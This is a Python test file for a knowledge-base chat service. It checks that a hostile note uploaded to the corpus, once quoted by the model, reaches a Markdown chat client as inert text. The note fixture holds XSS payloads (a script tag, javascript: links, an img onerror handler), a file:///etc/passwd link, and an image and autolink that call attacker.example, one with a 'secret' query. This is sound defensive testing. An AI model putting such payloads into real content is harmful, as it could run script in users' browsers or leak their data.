"""``/v1`` with a hostile note in the corpus: the model quotes it, and the chat client gets it as inert Markdown.

A real ``kb serve`` (the conftest's uvicorn) with the scripted model quoting the passage it cites (``extractive``),
asked whole and streamed one character a delta; the reply is rendered with markdown-it-py (CommonMark, raw
HTML on, plus GFM's tables) as a chat client would: no tag, link or image but kb's links to its own page.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

import httpx
from markdown_it import MarkdownIt

from kb_core.plugin import GenerateRequest
from kb_core.service import markdown
from kb_core.testing import extractive

#: The tester's note: a script, links to javascript: and file:, an image that would fetch a remote URL.
NOTE = (
    "The Zephyrine valve reset code is <script>alert(1)</script> 4471, set in the "
    "[the manual](javascript:alert('js-link')) with the <a href=\"javascript:alert(2)\">parts</a> "
    "![status](https://attacker.example/?q=secret) and [the password file](file:///etc/passwd) "
    '<img src=x onerror="alert(3)"> <https://attacker.example/auto>\n'
)
QUESTION = "What is the Zephyrine valve reset code?"
RENDERER = MarkdownIt("commonmark").enable("table")


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def rendered_tags(content: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Tags()
    parser.feed(RENDERER.render(content))
    return parser.tags


def ask(http: httpx.Client, stream: bool) -> tuple[str, dict[str, Any]]:
    body = {"model": "kb", "messages": [{"role": "user", "content": QUESTION}], "stream": stream}
    if not stream:
        data = http.post("/v1/chat/completions", json=body).json()
        return data["choices"][0]["message"]["content"], data["kb"]
    with http.stream("POST", "/v1/chat/completions", json=body) as reply:
        lines = [line.removeprefix("data: ") for line in reply.iter_lines() if line.startswith("data: {")]
    chunks = [json.loads(line) for line in lines]
    content = "".join(c["choices"][0]["delta"].get("content") or "" for c in chunks if c["choices"])
    return content, chunks[-1]["kb"]


def test_a_hostile_notes_html_links_and_images_reach_a_chat_client_as_text(
    start_server: Callable[..., Any],
) -> None:
    def by_character(request: GenerateRequest) -> list[str]:
        return list("".join(extractive(request)))  # every "<", "](" and marker split across deltas

    server = start_server(script=by_character)
    with server.client() as http:
        uploaded = http.post("/documents", files={"file": ("notes/zephyrine.txt", NOTE.encode(), "text/plain")})
        assert uploaded.status_code == 200, uploaded.text
        whole, answer = ask(http, stream=False)
        streamed, streamed_answer = ask(http, stream=True)
    assert answer["grounded"] is True and "<script>alert(1)</script>" in answer["answer"]  # the model quoted it
    assert answer["citations"][0]["citation"]["path"] == "notes/zephyrine.txt"
    assert whole == markdown.message(answer, server.url)
    # (kb's checked release joins the sentences it released with a space, "! [status]", "/? q=": the stream's
    # text is not the answer's, so the message follows the rule, as checked)
    assert streamed.endswith(markdown.message(streamed_answer, server.url)) and markdown.RULE in streamed
    for content in (whole, streamed):
        assert "&lt;script>alert(1)&lt;/script> 4471" in content and "\\[the manual\\](javascript:" in content
        tags = rendered_tags(content)
        assert {tag for tag, _ in tags} <= {"p", "ul", "li", "a", "hr"}  # (hr: the rule)
        links = [attrs for tag, attrs in tags if tag == "a"]
        assert links and all(list(a) == ["href"] and str(a["href"]).startswith(f"{server.url}/#/doc/") for a in links)
        assert "<script" not in RENDERER.render(content) and "<img" not in RENDERER.render(content)
